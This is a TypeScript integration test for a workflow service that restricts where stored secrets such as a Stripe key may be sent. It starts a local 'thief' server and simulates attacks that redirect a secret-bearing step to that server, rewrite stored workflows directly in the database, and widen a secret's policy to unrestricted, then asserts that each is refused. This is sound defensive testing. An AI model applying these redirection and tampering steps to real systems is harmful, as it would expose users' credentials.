import { createServer, type Server } from "node:http";
import { findLeaks } from "@workflow-secrets/leak-oracle";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { failure, type User } from "./support/api";
import { executeLocalD1, sqlText } from "./support/local-d1";
import { readInbox, waitForRun } from "./support/runs";
import { definitions, type SeedSecrets, signUpWithSeedSecrets } from "./support/seed-user";

// The thief's own server, on 127.0.0.1, started by this file: it must receive nothing.
const stolen: { url: string; body: string; headers: Record<string, unknown> }[] = [];
let attacker: Server;
let attackerUrl: string;
let dave: User;
let secrets: SeedSecrets;
let chargeId: string;

beforeAll(async () => {
  attacker = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (c: Buffer) => chunks.push(c));
    request.on("end", () => {
      stolen.push({
        url: request.url ?? "",
        body: Buffer.concat(chunks).toString(),
        headers: request.headers,
      });
      response.writeHead(200, { "content-type": "application/json" }).end('{"ok":true}');
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  const address = attacker.address();
  attackerUrl = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
  ({ user: dave, secrets } = await signUpWithSeedSecrets("dave"));
  chargeId = (await dave.client.workflows.create.mutate(definitions.charge())).id;
});

afterAll(async () => {
  await new Promise((resolve) => attacker.close(resolve));
  expect(
    findLeaks(
      JSON.stringify(stolen),
      Object.values(secrets).map((s) => s.value),
    ),
  ).toEqual([]);
});

const allowedPayments = () => inject("echoUrl");

/** The seed's charge workflow with its first step (which sends stripe_secret) pointed at `url`. */
function chargeTo(url: string) {
  const definition = structuredClone(definitions.charge());
  (definition.steps[0] as { url: string }).url = url;
  return definition;
}
const refusal = (destination: string) =>
  `step "charge" (headers.Authorization): secret "stripe_secret" may not be sent to ${destination}; it may go only to ${allowedPayments()}. Send it to one of those, or enter the secret's value again with this destination added`;

describe("sealed destinations through the real stack (pnpm dev's wrangler, real D1, Queue and runner)", () => {
  it("the seed example runs with every secret bound to its service, and the list shows the bindings", async () => {
    const { runId } = await dave.client.workflows.run.mutate({ id: chargeId });
    const run = await waitForRun(dave.client, runId);
    expect(run.status).toBe("succeeded");
    const listed = Object.fromEntries((await dave.client.secrets.list.query()).map((s) => [s.name, s]));
    expect(listed.stripe_secret).toMatchObject({ destinations: [allowedPayments()], unrestricted: false });
    expect(listed.slack_alerts).toMatchObject({
      destinations: [`${inject("slackUrl")}/services`],
      unrestricted: false,
    });
    expect(listed.smtp_password).toMatchObject({
      destinations: [`smtp://127.0.0.1:${inject("smtpPort")}`],
      unrestricted: false,
    });
  });

  it("a thief with the owner's token: workflows.update to their server is refused at save, in the runner's words", async () => {
    const refused = await failure(
      dave.client.workflows.update.mutate({ id: chargeId, ...chargeTo(`${attackerUrl}/v1/charges`) }),
    );
    expect(refused.code).toBe("BAD_REQUEST");
    expect(refused.message).toBe(refusal(attackerUrl));
    expect(stolen).toEqual([]);
  });

  it("a D1 writer points the step at their server: the run fails at that step before sending", async () => {
    const definition = definitions.charge();
    const rewritten = chargeTo(`${attackerUrl}/v1/charges`);
    await executeLocalD1(
      `UPDATE workflows SET definition = ${sqlText(JSON.stringify(rewritten))} WHERE id = ${sqlText(chargeId)}`,
    );
    const { runId } = await dave.client.workflows.run.mutate({ id: chargeId });
    const run = await waitForRun(dave.client, runId);
    expect(run.status).toBe("failed");
    // Stored through the run's masker: here every URL starts "http://127.0.0.1:", which is also a
    // window of the URL-valued slack_alerts secret, so the masker may hide part of each origin.
    const shape =
      /^step "charge" \(headers\.Authorization\): secret "stripe_secret" may not be sent to \S+; it may go only to \S+\. Send it to one of those, or enter the secret's value again with this destination added$/;
    expect(run.error).toMatch(shape);
    expect(run.error?.replaceAll("[masked:slack_alerts]", "")).toContain(attackerUrl.slice(-3));
    expect(run.steps.map((s) => [s.stepId, s.status])).toEqual([
      ["charge", "failed"],
      ["notify", "skipped"],
      ["receipt", "skipped"],
    ]);
    expect(stolen).toEqual([]);
    await executeLocalD1(
      `UPDATE workflows SET definition = ${sqlText(JSON.stringify(definition))} WHERE id = ${sqlText(chargeId)}`,
    );
  });

  it("a D1 writer widens the policy column to unrestricted: the value no longer opens (tampered), nothing is sent", async () => {
    const rewritten = chargeTo(`${attackerUrl}/v1/charges`);
    rewritten.steps.splice(1);
    await executeLocalD1(
      `UPDATE secrets SET policy = '{"destinations":["*"],"scripts":true}' WHERE user_id = ${sqlText(dave.id)} AND name = 'stripe_secret'`,
    );
    await executeLocalD1(
      `UPDATE workflows SET definition = ${sqlText(JSON.stringify(rewritten))} WHERE id = ${sqlText(chargeId)}`,
    );
    const { runId } = await dave.client.workflows.run.mutate({ id: chargeId });
    const run = await waitForRun(dave.client, runId);
    expect(run.status).toBe("failed");
    expect(run.error).toBe(
      'step "charge" (headers.Authorization): {{secrets.stripe_secret}} could not be opened (tampered); save the secret again',
    );
    expect(stolen).toEqual([]);
    const inbox = await readInbox();
    expect(inbox.echo.filter((r) => r.headers["idempotency-key"] === `${runId}:charge`)).toEqual([]);
  });
});
